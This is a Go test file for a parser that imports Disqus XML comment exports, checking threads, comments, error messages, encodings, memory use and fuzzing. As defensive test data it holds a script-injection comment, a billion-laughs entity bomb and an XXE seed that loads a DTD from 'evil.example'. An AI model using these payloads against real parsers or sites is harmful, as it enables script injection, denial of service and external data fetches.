package disqus

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"reflect"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/parley-dev/parley/server/importer/source"
	"github.com/parley-dev/parley/server/importer/source/sourcetest"
	"github.com/parley-dev/parley/storage"
)

func parse(t *testing.T, data []byte) (*sourcetest.Records, error) {
	t.Helper()
	return sourcetest.Parse(t, Parse, data)
}

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

func TestParseExport(t *testing.T) {
	rs, err := parse(t, sourcetest.Fixture(t, "export.xml"))
	if err != nil {
		t.Fatal(err)
	}
	wantThreads := []source.Thread{{
		ID:         "1001",
		Identifier: "notes/first-frost",
		URL:        "https://fieldnotes.example.org/2014/first-frost/",
		Title:      "First frost on the allotment",
		Created:    at("2014-11-02T08:15:00Z"),
	}, {
		ID:      "1002",
		URL:     "https://fieldnotes.example.org/2015/grusse-aus-tokio/",
		Title:   "Grüße aus 東京 🎉",
		Closed:  true,
		Created: at("2015-03-21T22:40:10Z"),
	}, {
		ID:         "1003", // deleted in Disqus, still emitted
		Identifier: "notes/old-shed",
		URL:        "https://fieldnotes.example.org/2013/old-shed/",
		Title:      "The old shed",
		Created:    at("2013-10-29T21:02:19Z"),
	}}
	if !reflect.DeepEqual(rs.Threads, wantThreads) {
		t.Errorf("threads:\n got %+v\nwant %+v", rs.Threads, wantThreads)
	}

	want := map[string]source.Comment{
		"2001": {
			ID: "2001", ThreadID: "1001",
			Author:  source.Author{Name: "Olu Bright", Email: "olu@example.net"},
			IP:      "203.0.113.7",
			Created: at("2014-11-02T09:00:00Z"),
			HTML:    `<p>Lovely photos. Did the <b>kale</b> survive? See <a href="https://example.net/kale" rel="nofollow">my notes</a>.</p>`,
			Status:  storage.StatusApproved,
		},
		"2003": { // third level, non-ASCII
			ID: "2003", ThreadID: "1001", ParentID: "2002",
			Author:  source.Author{Name: "健二", Email: "kenji@example.jp"},
			IP:      "2001:db8::17",
			Created: at("2014-11-03T01:02:03Z"),
			HTML:    "<p>Grüße, 東京, emoji 🎉 — same here.</p>",
			Status:  storage.StatusApproved,
		},
		"2004": { // orphan; empty name falls back to the username
			ID: "2004", ThreadID: "1001", ParentID: "1999",
			Author:  source.Author{Name: "sam_w", Email: "sam@example.com"},
			IP:      "192.0.2.44",
			Created: at("2014-11-04T12:00:00Z"),
			HTML:    "<p>Replying to a comment that was purged long ago.</p>",
			Status:  storage.StatusApproved,
		},
		"2006": { // spam; the script passes untouched
			ID: "2006", ThreadID: "1002",
			Author:  source.Author{Name: "Seed Deals", Email: "deals@spam.example"},
			IP:      "192.0.2.200",
			Created: at("2015-03-22T07:05:00Z"),
			HTML:    `<p>Cheap seeds!!! <script>alert("pwned")</script><a href="http://spam.example/">click</a></p>`,
			Status:  storage.StatusSpam,
		},
		"2007": { // anonymous, CDATA keeps &amp; as written
			ID: "2007", ThreadID: "1002",
			Author:  source.Author{Name: "Passer-by"},
			IP:      "198.51.100.99",
			Created: at("2015-03-23T18:45:31Z"),
			HTML:    "<p>Just passing through &amp; saying hi.</p>",
			Status:  storage.StatusApproved,
		},
		"2008": { // escaped rather than CDATA, before its thread
			ID: "2008", ThreadID: "1003",
			Author:  source.Author{Name: "Inês", Email: "ines@example.pt"},
			IP:      "203.0.113.88",
			Created: at("2016-01-05T11:11:11Z"),
			HTML:    "<p>Was the page taken down? The <i>comments</i> are still here.</p>",
			Status:  storage.StatusApproved,
		},
	}
	var ids []string
	for _, c := range rs.Comments {
		ids = append(ids, c.ID)
		if w, ok := want[c.ID]; ok && !reflect.DeepEqual(c, w) {
			t.Errorf("comment %s:\n got %+v\nwant %+v", c.ID, c, w)
		}
	}
	if got := strings.Join(ids, " "); got != "2001 2002 2003 2004 2005 2006 2007 2008" {
		t.Errorf("comments in order %s", got)
	}
	if c := rs.Comments[1]; c.ParentID != "2001" {
		t.Errorf("2002 parent %q, want 2001", c.ParentID)
	}
	if c := rs.Comments[4]; c.Status != storage.StatusDeleted {
		t.Errorf("2005 status %q, want deleted", c.Status)
	}
}

func TestParseWrongFormat(t *testing.T) {
	whole := sourcetest.Fixture(t, "export.xml")
	cases := map[string]struct{ data, msg string }{
		"wxr":      {string(sourcetest.Fixture(t, "../../wxr/testdata/export.xml")), "disqus: root element is <rss>, want <disqus>"},
		"json":     {`{"threads": [{"id": 1}]}`, "not an XML file"},
		"empty":    {"", "holds no XML element"},
		"blank":    {"  \n<!-- nothing -->\n", "holds no XML element"},
		"truncate": {string(whole[:len(whole)/2]), "malformed XML"},
		"no ns":    {`<disqus><thread dsq:id="1"/></disqus>`, "not in the namespace"},
		"html":     {"<!DOCTYPE html><html><body>hi</body></html>", "root element is <html>"},
		"trailing": {`<disqus xmlns="http://disqus.com"></disqus><disqus/>`, "content after the end"},
		"no id":    {`<disqus xmlns="http://disqus.com"><post><message>x</message></post></disqus>`, "<post> has no dsq:id"},
		"date":     {onePost(`<createdAt>yesterday</createdAt>`), `<createdAt> is "yesterday"`},
		"bool":     {onePost(`<isSpam>maybe</isSpam>`), "want true or false"},
		"nested":   {onePost(`<message><p>hi</p></message>`), "<message> holds an element <p>"},
		"latin2":   {`<?xml version="1.0" encoding="ISO-8859-2"?><disqus xmlns="http://disqus.com"/>`, `encoded in "ISO-8859-2"`},
		"entity":   {`<!DOCTYPE disqus [<!ENTITY x "y">]><disqus xmlns="http://disqus.com">&x;</disqus>`, "declares entities"},
		"huge": {onePost("<message>" + strings.Repeat("é", source.MaxField/2+1) + "</message>"),
			fmt.Sprintf("<message> is longer than %d bytes", source.MaxField)},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			_, err := parse(t, []byte(c.data))
			if !errors.Is(err, source.ErrFormat) {
				t.Fatalf("error %v, want ErrFormat", err)
			}
			if !strings.Contains(err.Error(), c.msg) {
				t.Errorf("error %q, want it to say %q", err, c.msg)
			}
		})
	}
}

// onePost wraps fields in a post of a minimal export.
func onePost(fields string) string {
	return `<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">` +
		`<post dsq:id="7">` + fields + `<thread dsq:id="1"/></post></disqus>`
}

func TestParseLatin1(t *testing.T) {
	data := []byte("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>" + onePost("<message>Gr\xfc\xdfe \x93quoted\x94</message>"))
	rs, err := parse(t, data)
	if err != nil {
		t.Fatal(err)
	}
	if got := rs.Comments[0].HTML; got != "Grüße “quoted”" {
		t.Errorf("message %q", got)
	}
}

func TestParseHandlerError(t *testing.T) {
	stop := errors.New("stop")
	calls := 0
	h := source.Handler{
		Thread:  func(source.Thread) error { calls++; return nil },
		Comment: func(source.Comment) error { calls++; return stop },
	}
	err := Parse(bytes.NewReader(sourcetest.Fixture(t, "export.xml")), h)
	if !errors.Is(err, stop) || errors.Is(err, source.ErrFormat) {
		t.Errorf("error %v, want the handler's", err)
	}
	if calls != 2 {
		t.Errorf("%d handler calls, want 2: the parse goes on after the error", calls)
	}
}

// TestParseStreams parses a generated export of about 20 MB and checks the
// heap stays far below the file's size. It takes about half a second.
func TestParseStreams(t *testing.T) {
	const size = 20 << 20
	pr, pw := io.Pipe()
	go func() { pw.CloseWithError(writeLarge(pw, size)) }()

	runtime.GC()
	var ms runtime.MemStats
	runtime.ReadMemStats(&ms)
	base, peak := ms.HeapInuse, uint64(0)
	n := 0
	h := source.Handler{
		Thread: func(source.Thread) error { return nil },
		Comment: func(source.Comment) error {
			if n++; n%2000 == 0 {
				runtime.ReadMemStats(&ms)
				peak = max(peak, ms.HeapInuse)
			}
			return nil
		},
	}
	if err := Parse(pr, h); err != nil {
		t.Fatal(err)
	}
	if n < 20000 {
		t.Fatalf("only %d comments", n)
	}
	if grown := int64(peak) - int64(base); grown > size/4 {
		t.Errorf("heap grew by %d bytes parsing a %d-byte file", grown, size)
	}
	t.Logf("%d comments, heap in use %d → peak %d", n, base, peak)
}

// writeLarge writes an export of at least size bytes to w.
func writeLarge(w io.Writer, size int) error {
	cw := &countWriter{w: w}
	fmt.Fprint(cw, `<?xml version="1.0" encoding="utf-8"?>`+"\n"+
		`<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals">`+"\n")
	body := strings.Repeat("Grüße aus 東京 🎉 — a perfectly ordinary comment. ", 8)
	for i := 0; cw.n < size && cw.err == nil; i++ {
		if i%50 == 0 {
			fmt.Fprintf(cw, "<thread dsq:id=\"t%d\"><id>page-%d</id><link>https://example.com/%d/</link>"+
				"<title>Page %d</title><createdAt>2014-01-01T00:00:00Z</createdAt><isClosed>false</isClosed></thread>\n", i, i, i, i)
		}
		fmt.Fprintf(cw, "<post dsq:id=\"p%d\"><message><![CDATA[<p>%s</p>]]></message>"+
			"<createdAt>2014-01-02T03:04:05Z</createdAt><isDeleted>false</isDeleted><isSpam>false</isSpam>"+
			"<author><email>a%d@example.com</email><name>Author %d</name></author>"+
			"<ipAddress>192.0.2.1</ipAddress><thread dsq:id=\"t%d\"/><parent dsq:id=\"p%d\"/></post>\n",
			i, body, i, i, i-i%50, i-1)
	}
	fmt.Fprint(cw, "</disqus>\n")
	return cw.err
}

type countWriter struct {
	w   io.Writer
	n   int
	err error
}

func (c *countWriter) Write(p []byte) (int, error) {
	if c.err != nil {
		return 0, c.err
	}
	n, err := c.w.Write(p)
	c.n += n
	c.err = err
	return n, err
}

func FuzzParse(f *testing.F) {
	f.Add(sourcetest.Fixture(f, "export.xml"))
	f.Add(sourcetest.Fixture(f, "../../wxr/testdata/export.xml"))
	for _, s := range []string{
		onePost(`<message><![CDATA[<b>x</b>]]></message><parent dsq:id="3"/><author><name>n</name></author>`),
		`<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;">]><disqus xmlns="http://disqus.com">&lol2;</disqus>`,
		`<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><disqus/>`,
		`<?xml version="1.0" encoding="windows-1252"?><disqus xmlns="http://disqus.com"><thread dsq:id="1"><title>caf` + "\xe9" + `</title></thread></disqus>`,
		`<disqus xmlns="http://disqus.com"><post dsq:id="1"><message>&#xD800;</message></post></disqus>`,
		"\xef\xbb\xbf<disqus xmlns=\"http://disqus.com\"/>",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		rs := &sourcetest.Records{StopAfter: 5}
		err := Parse(bytes.NewReader(data), rs.Handler())
		sourcetest.CheckEmitted(t, rs)
		sourcetest.CheckError(t, err, sourcetest.ErrStop)
	})
}
